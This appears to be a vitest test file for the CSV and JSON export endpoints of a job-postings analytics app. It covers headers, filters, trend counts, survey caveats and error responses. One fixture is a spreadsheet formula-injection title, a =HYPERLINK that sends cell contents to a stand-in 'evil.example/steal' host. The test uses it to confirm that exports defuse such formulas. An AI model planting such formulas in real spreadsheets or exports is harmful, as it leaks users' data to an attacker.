import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openDb } from "@/db/client";
import { ingestBatch } from "@/db/ingest/postings";
import { parsePostingsParams } from "@/app/postings/search-params";
import { countPostings, listPostings, PAGE_SIZE } from "@/db/queries/postings";
import { getGroupMonthlyFrameworkCounts } from "@/db/queries/trends";
import { InvalidParametersError, NotFoundError } from "@/lib/api/errors";
import { rawParams } from "@/lib/api/search-params";
import { SURVEY_CAVEAT } from "@/lib/caveats";
import { errorResponse } from "@/lib/api/respond";
import { exportResponse, exportStream } from "@/lib/export/respond";
import { CSV_META_LINES, NO_CAVEAT } from "@/lib/export/meta";
import { parseExportFile } from "@/lib/export/views";
import { METHODOLOGY_VERSION } from "@/lib/methodology";
import { syntheticPosting } from "../../bench/posting-shape";
import { seededRandom } from "../../bench/survey-shape";
import { createTempDb } from "../helpers/temp-db";

const NOW = new Date("2026-11-26T12:00:00Z");
const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/steal?x="&A1,"Apply here")';
let temp: ReturnType<typeof createTempDb>;

beforeAll(() => {
  temp = createTempDb();
  const random = seededRandom(7);
  const items = Array.from({ length: 1_200 }, (_, i) => syntheticPosting(i + 1, random, { firstMonth: "2026-01", months: 6 }));
  items.push({ ...syntheticPosting(5_000, random, { firstMonth: "2026-03", months: 1, title: HOSTILE_TITLE }), sourceId: "hostile" });
  ingestBatch(temp.db, { source: "careers", runId: null, fetchedAt: NOW.toISOString(), validators: [], items });
});
afterAll(() => temp.cleanup());

const search = (query: string) => new URLSearchParams(query);
const open = () => openDb(temp.file, { readonly: true });
const csvRecords = (text: string) => parse(text, { bom: true, from_line: CSV_META_LINES + 1, columns: true }) as Array<Record<string, string>>;

describe("postings export", () => {
  it("streams CSV with a BOM, the header lines and one row per posting; a formula title is defused", async () => {
    const response = exportResponse({ view: "postings", format: "csv", search: search("source=careers"), now: NOW }, open);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="framework-pulse-postings-2026-11-26.csv"');
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    const lines = text.replace(/^\uFEFF/, "").split("\n");
    expect(lines.slice(0, 5)).toEqual([
      "#Framework Pulse export,postings: postings matching the explorer's filters in its order; every page; one row per posting (job_group links duplicates)",
      "#filters,q=(all); framework=(all); use_case=(all); role=(all); seniority=(all); remote=(all); country=(all); source=careers; company=(all); company_match=(all); salary_min=(all); salary_max=(all); from=(all); to=(all); status=all; sort=newest",
      "#source mix,careers: 1201 postings",
      `#methodology version,${METHODOLOGY_VERSION}`,
      "#exported at,2026-11-26T12:00:00.000Z",
    ]);
    const rows = csvRecords(text);
    expect(rows).toHaveLength(1_201);
    const hostile = rows.find((row) => row.source_id === "hostile");
    expect(hostile?.title).toBe(`'${HOSTILE_TITLE}`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    // Newest first, as the explorer lists them.
    const posted = rows.map((row) => row.posted_at);
    expect(posted).toEqual([...posted].sort().reverse());
  });

  it("applies the filters and names them in the header", async () => {
    const db = open();
    const expected = db.$client
      .prepare("select count(*) as n from postings p where p.month >= '2026-02' and p.month <= '2026-03' and exists (select 1 from posting_frameworks f where f.posting_id = p.id and f.framework = 'pytorch')")
      .get() as { n: number };
    db.$client.close();
    const { stream } = exportStream({ view: "postings", format: "csv", search: search("framework=pytorch&from=2026-02&to=2026-03"), now: NOW }, open);
    const text = await new Response(stream).text();
    expect(text).toContain("#filters,q=(all); framework=pytorch; ");
    const rows = csvRecords(text);
    expect(rows).toHaveLength(expected.n);
    expect(rows.every((row) => row.frameworks?.includes("pytorch") && row.month! >= "2026-02" && row.month! <= "2026-03")).toBe(true);
  });

  it("streams JSON as {meta, rows} with the same rows, text not altered", async () => {
    const { stream } = exportStream({ view: "postings", format: "json", search: search("source=careers&from=2026-03&to=2026-03"), now: NOW }, open);
    const body = JSON.parse(await new Response(stream).text()) as { meta: Record<string, unknown>; rows: Array<Record<string, unknown>> };
    expect(body.meta).toMatchObject({ view: "postings", methodologyVersion: METHODOLOGY_VERSION, exportedAt: NOW.toISOString(), caveat: null });
    expect(body.meta.filters).toMatchObject({ source: "careers", from: "2026-03", to: "2026-03" });
    expect(body.rows.length).toBeGreaterThan(100);
    expect(body.rows.find((row) => row.sourceId === "hostile")?.title).toBe(HOSTILE_TITLE);
  });

  it("releases its database connection when the client stops reading", async () => {
    let closed = 0;
    const { stream } = exportStream({ view: "postings", format: "csv", search: search(""), now: NOW }, () => {
      const db = open();
      const close = db.$client.close.bind(db.$client);
      db.$client.close = () => (closed++, close());
      return db;
    });
    const reader = stream.getReader();
    await reader.read();
    await reader.read();
    await reader.cancel();
    expect(closed).toBe(1);
  });
});

describe("postings export selects what the explorer selects", () => {
  it.each([
    "",
    "framework=pytorch&sort=oldest",
    "q=engineer&source=boards",
    "company=hooli&salary_min=100000&sort=salary",
    "use_case=computer_vision&role=ml_engineer&country=de&status=open",
    "seniority=senior&remote=remote&sort=company&from=2026-02&to=2026-05",
  ])("?%s: same count as countPostings and the explorer's first page first", async (query) => {
    const filter = parsePostingsParams(rawParams(search(query))).values;
    const { stream } = exportStream({ view: "postings", format: "json", search: search(query), now: NOW }, open);
    const body = JSON.parse(await new Response(stream).text()) as { rows: Array<{ id: number }> };
    expect(body.rows.length).toBe(countPostings(temp.db, filter).postings);
    expect(body.rows.slice(0, PAGE_SIZE).map((row) => row.id)).toEqual(listPostings(temp.db, filter).map((row) => row.id));
  });
});

describe("trends export", () => {
  it("has the numbers of /trends' tables: per group chart, month and framework", async () => {
    const { stream } = exportStream({ view: "trends", format: "csv", search: search("from=2026-02"), now: NOW }, open);
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await new Response(stream).arrayBuffer());
    expect(text).toMatch(/^\uFEFF#Framework Pulse export,trends: /);
    expect(text).toContain("#filters,from=2026-02; to=(all); country=(all)\n");
    const rows = csvRecords(text).filter((row) => row.chart?.startsWith("share-"));
    expect(new Set(rows.map((row) => row.chart))).toEqual(new Set(["share-boards"]));
    expect([...new Set(rows.map((row) => row.month))]).toEqual(["2026-02", "2026-03", "2026-04", "2026-05", "2026-06"]);
    const counts = getGroupMonthlyFrameworkCounts(temp.db, { group: "boards", from: "2026-02" });
    for (const count of counts) {
      for (const framework of ["tensorflow", "pytorch", "jax", "keras"] as const) {
        const row = rows.find((r) => r.month === count.month && r.framework === framework)!;
        expect(Number(row.n)).toBe(count.postings);
        expect(row.n_unit).toBe("distinct jobs");
        expect(Number(row.mentions)).toBe(count[framework]);
        expect(Number(row.share)).toBeCloseTo(count[framework] / count.postings, 4);
      }
    }
    const mix = /#source mix,careers: (\d+) jobs/.exec(text);
    expect(Number(mix?.[1])).toBe(counts.reduce((sum, c) => sum + c.postings, 0));
  });
});

describe("survey-derived exports", () => {
  it.each(["talent", "salaries"] as const)("%s carries the survey caveat in its header", async (view) => {
    const { stream } = exportStream({ view, format: "csv", search: search(""), now: NOW }, open);
    const text = await new Response(stream).text();
    expect(csvHeader(text).get("#caveat")).toContain(SURVEY_CAVEAT);
  });

  it("salaries of job ads only carry no caveat", async () => {
    const { stream } = exportStream({ view: "salaries", format: "csv", search: search("origin=posted"), now: NOW }, open);
    const text = await new Response(stream).text();
    expect(csvHeader(text).get("#caveat")).toBe(NO_CAVEAT);
    expect(new Set(csvRecords(text).map((row) => row.chart))).toEqual(new Set(["bands-posted"]));
  });

  it("use cases: coverage, then one row per use case and framework in each table", async () => {
    const { stream } = exportStream({ view: "use-cases", format: "json", search: search("source=careers"), now: NOW }, open);
    const body = JSON.parse(await new Response(stream).text()) as { meta: { caveat: string | null }; charts: Record<string, { rows: unknown[] }> };
    expect(Object.keys(body.charts)).toEqual(["coverage", "split", "reverse"]);
    expect(body.charts.coverage?.rows).toHaveLength(1);
    expect(body.charts.split?.rows).toHaveLength(7 * 4);
    expect(body.charts.reverse?.rows).toHaveLength(7 * 4);
    expect(body.meta.caveat).toBeNull();
  });
});

describe("errors before anything is streamed", () => {
  it.each([
    ["postings", "framework=torch", "framework"],
    ["postings", "from=2026-13", "from"],
    ["postings", "colour=blue", "colour"],
    ["postings", "salary_min=9&salary_max=1", "salary"],
    ["trends", "from=2018-03&from=2018-04", "from"],
    ["trends", "from=2019-01&to=2018-01", "from"],
    ["trends", "source=hn", "source"],
    ["use-cases", "source=nowhere", "source"],
  ] as const)("%s?%s is a 400 naming %s", async (view, query, param) => {
    let opened = false;
    const run = () => exportResponse({ view, format: "csv", search: search(query) }, () => ((opened = true), open()));
    expect(run).toThrow(InvalidParametersError);
    const response = errorResponse(captured(run));
    expect(response.status).toBe(400);
    const body = (await response.json()) as { error: { code: string; message: string; issues: Array<{ param: string }> } };
    expect(body.error.code).toBe("invalid_parameters");
    expect(body.error.issues.map((issue) => issue.param)).toContain(param);
    expect(opened).toBe(false);
  });

  it("a survey year that is not stored is a 400 (checked against the database, which is then closed)", async () => {
    let closed = false;
    const run = () =>
      exportResponse({ view: "talent", format: "csv", search: search("year=2019") }, () => {
        const db = open();
        const close = db.$client.close.bind(db.$client);
        db.$client.close = () => ((closed = true), close());
        return db;
      });
    const response = errorResponse(captured(run));
    expect(response.status).toBe(400);
    expect(((await response.json()) as { error: { issues: Array<{ param: string }> } }).error.issues[0]?.param).toBe("year");
    expect(closed).toBe(true);
  });

  it.each(["nothing.csv", "trends.xlsx", "trends", "../trends.csv"])("/export/%s is a 404", (file) => {
    expect(() => parseExportFile(file)).toThrow(NotFoundError);
  });
});

function csvHeader(text: string): Map<string, string> {
  const rows = parse(text, { bom: true, to_line: CSV_META_LINES, relax_column_count: true }) as string[][];
  return new Map(rows.map(([key, value]) => [key ?? "", value ?? ""]));
}

function captured(run: () => unknown): unknown {
  try {
    run();
  } catch (error) {
    return error;
  }
  throw new Error("expected an error");
}
